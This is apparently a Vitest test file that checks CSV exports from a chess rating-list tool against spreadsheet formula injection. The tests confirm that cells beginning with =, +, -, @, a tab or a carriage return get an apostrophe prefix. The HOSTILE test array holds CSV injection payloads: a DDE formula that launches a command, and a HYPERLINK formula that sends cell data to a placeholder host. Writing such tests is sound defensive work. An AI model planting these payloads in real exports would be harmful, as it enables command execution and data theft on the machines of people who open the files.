// CSV injection (OWASP): a text cell that a spreadsheet would read as a formula is written with a leading apostrophe,
// in the list export and in the audit CSV; a CSV parser reads the cell back as that apostrophe and the original text.
import { describe, expect, it } from 'vitest'
import { parse } from 'csv-parse/sync'
import { csvField, neutraliseCsvText, writeCsv } from '../../../../src/main/core/exports/csv'
import type { ExportMeta, ExportRow } from '../../../../src/main/core/exports/types'
import { auditCsv } from '../../../../src/main/cli/commands/audit'

const HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTab', '\rReturn', '=1;2', '-"quoted", comma']

describe('neutraliseCsvText', () => {
  it('prefixes an apostrophe to text beginning with = + - @, a tab or a carriage return, and to nothing else', () => {
    for (const s of HOSTILE) expect(neutraliseCsvText(s)).toBe(`'${s}`)
    for (const s of ['Müller, Jürgen', 'a=b', 'O\'Neil', '', ' =x']) expect(neutraliseCsvText(s)).toBe(s)
  })

  it('leaves a plain number written as text as it is: a negative rating change stays the number -12', () => {
    for (const s of ['-12', '+3', '-0.5', '2,5', '1850']) expect(neutraliseCsvText(s)).toBe(s)
    // a number followed by anything else is text, and neutralised
    expect(neutraliseCsvText('-12 (K 20)')).toBe("'-12 (K 20)")
    expect(csvField(-12, ',')).toBe('-12')
  })
})

const row = (surname: string, givenNames: string, rating: number | null): ExportRow => ({
  playerId: 1, fideId: 1000001, surname, givenNames, federation: '@FR', sex: 'M', title: null, womanTitle: null, otherTitles: null, foaTitle: null, birthYear: 1990, rating, games: 3, k: 20, flags: null, delisted: 0
})

describe('round trip through a CSV parser', () => {
  for (const [locale, delimiter] of [['en', ','], ['fr', ';']] as const) {
    it(`a list export (${locale}): every hostile name back as apostrophe + original text, numbers untouched`, async () => {
      const chunks: Buffer[] = []
      // writeCsv reads only the locale and the order of the meta
      const meta = { locale, sort: 'name' } as unknown as ExportMeta
      await writeCsv(meta, HOSTILE.map((s, i) => row(s, i % 2 ? '=cmd' : '', 2000 - i)), (c) => void chunks.push(Buffer.from(c)))
      const rows = parse(Buffer.concat(chunks).toString('utf8').slice(1), { delimiter, relax_column_count: false }) as string[][]
      expect(rows).toHaveLength(1 + HOSTILE.length)
      HOSTILE.forEach((s, i) => {
        const cells = rows[i + 1]!
        const name = i % 2 ? `${s}, =cmd` : s
        expect(cells[2]).toBe(`'${name}`)
        expect(cells[2]!.slice(1)).toBe(name)
        expect(cells[4]).toBe("'@FR")
        expect(cells[7]).toBe(String(2000 - i))
      })
    })
  }

  it('the audit CSV: a reason and an actor beginning with = or @ come back with the apostrophe, the id stays a number', () => {
    const csv = auditCsv([
      { id: 7, at: '2026-01-01T00:00:00Z', actor: '@admin', action: 'list.publish', entity: 'rating_list', entityId: '3', reason: '=HYPERLINK("http://x.invalid")', data: { delta: -12 } },
      { id: 8, at: '2026-01-02T00:00:00Z', actor: 'Anne', action: 'list.publish', entity: 'rating_list', entityId: '-4', reason: '-12', data: null }
    ])
    const rows = parse(csv.slice(1), {}) as string[][]
    expect(rows[1]).toEqual(['7', '2026-01-01T00:00:00Z', "'@admin", 'list.publish', 'rating_list', '3', `'=HYPERLINK("http://x.invalid")`, '{"delta":-12}'])
    expect(rows[2]![5]).toBe('-4')
    expect(rows[2]![6]).toBe('-12')
  })
})
